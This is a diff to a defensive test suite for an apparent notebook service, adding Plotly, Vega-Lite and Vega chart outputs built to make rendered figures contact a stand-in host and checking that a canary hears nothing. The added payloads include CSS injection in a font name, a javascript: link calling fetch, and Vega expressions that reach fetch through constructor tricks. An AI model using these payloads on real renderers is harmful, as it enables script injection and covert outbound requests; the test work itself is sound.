@@ -23,8 +23,58 @@ for payload in payloads:
         display({{media_type: payload}}, raw=True)
     print(payload)
     print(payload, file=sys.stderr)
+for figure in json.loads({figures!r}):
+    display({{figure["type"]: figure["json"]}}, raw=True)
 raise type("".join(payloads[:5]).replace(chr(0), ""), (Exception,), {{}})("".join(payloads))
 """
+TEXT_OF_ALL = "".join(PAYLOADS)
+FIGURES = [
+    {
+        "type": "application/vnd.plotly.v1+json",
+        "json": {
+            "data": [
+                {"type": "bar", "x": PAYLOADS, "y": [1] * len(PAYLOADS), "name": TEXT_OF_ALL, "hovertext": PAYLOADS},
+                {"type": "image", "source": "http://plotly.evil.example/image.png"},
+                {"type": "choropleth", "geojson": "http://plotly.evil.example/map.json"},
+            ],
+            "layout": {
+                "title": {"text": TEXT_OF_ALL},
+                "images": [{"source": "http://plotly.evil.example/layout.png", "x": 0, "y": 1, "sizex": 1, "sizey": 1}],
+                "annotations": [{"text": each, "x": 0, "y": 0} for each in PAYLOADS],
+                "font": {"family": "x; } * { background: url(http://plotly.evil.example/font) }"},
+            },
+            "config": {"plotlyServerURL": "http://plotly.evil.example", "topojsonURL": "http://plotly.evil.example/"},
+        },
+    },
+    {
+        "type": "application/vnd.vegalite.v6.json",
+        "json": {
+            "data": {"url": "http://vega.evil.example/data.json"},
+            "title": TEXT_OF_ALL,
+            "mark": {"type": "image", "width": 9, "height": 9},
+            "encoding": {
+                "url": {"value": "http://vega.evil.example/mark.png"},
+                "href": {"value": "javascript:fetch(`http://vega.evil.example/href`)"},
+            },
+        },
+    },
+    {
+        "type": "application/vnd.vega.v6+json",
+        "json": {
+            "$schema": "https://vega.github.io/schema/vega/v6.json",
+            "width": 200,
+            "height": 200,
+            "signals": [
+                {"name": "a", "init": "toString.constructor('fetch(`http://vega.evil.example/signal`)')()"},
+                {"name": "b", "update": "[].concat.constructor('return this')().fetch('http://vega.evil.example/')"},
+            ],
+            "marks": [
+                {"type": "text", "encode": {"enter": {"text": {"value": each}, "href": {"value": each}}}}
+                for each in PAYLOADS
+            ],
+        },
+    },
+]
 FLOOD = """
 LEAPS, COLOURS = "\\rb", "\\x1b[31mx\\x1b[32my"
 for text in ("a" * 30_000 + LEAPS * 30_000, "a" * 400_000 + LEAPS * 200_000, "\\r" * 99_000, COLOURS * 40_000):
@@ -41,15 +91,16 @@ def test_nothing_of_it_acts(service: RunningService, tmp_path: Path) -> None:
 
 
 async def nothing_acts(service: RunningService, directory: Path) -> None:
-    code = ATTACK.format(payloads=json.dumps(PAYLOADS), media_types=MEDIA_TYPES)
+    code = ATTACK.format(payloads=json.dumps(PAYLOADS), media_types=MEDIA_TYPES, figures=json.dumps(FIGURES))
     with listening() as canary, service.client() as client, client.session("python", name=PAYLOADS[0]) as session:
         assert session.run(code).status == "error"
         async with chromium(directory, options(canary)) as page:
             await sign_in(page, service)
             await page.evaluate(f"location.hash = '#/sessions/{session.id}'")
-            await page.wait_for(f"{FRAMES}.length === {len(PAYLOADS)}")
+            frames = 2 * len(PAYLOADS) + len(FIGURES)
+            await page.wait_for(f"{FRAMES}.length === {frames}")
             # Each frame has loaded and said how high its content is; some of that is empty.
-            await page.wait_for(f"{FRAMES}.filter(each => each.offsetHeight !== 60).length >= {len(PAYLOADS) - 5}")
+            await page.wait_for(f"{FRAMES}.filter(each => each.offsetHeight !== 60).length >= {frames - 10}")
             for y in range(100, 1400, 100):
                 await page.ask("Input.dispatchMouseEvent", type="mouseMoved", x=200, y=y)
                 for kind in ("mousePressed", "mouseReleased"):
@@ -114,7 +165,7 @@ async def no_file_acts(service: RunningService, directory: Path) -> None:
                 if name == "a.html":
                     await page.wait_for(f"{FRAMES}[0]?.offsetHeight !== 60")
                 if name == "a.ipynb":
-                    await page.wait_for(f"{FRAMES}.length === {len(PAYLOADS)}")
+                    await page.wait_for(f"{FRAMES}.length === {len(PAYLOADS) + 1}")
                 await asyncio.sleep(WATCHED_SECONDS / 5)
                 await page.evaluate("document.querySelector('[aria-label=\"All files\"]').click()")
             assert canary.heard == []
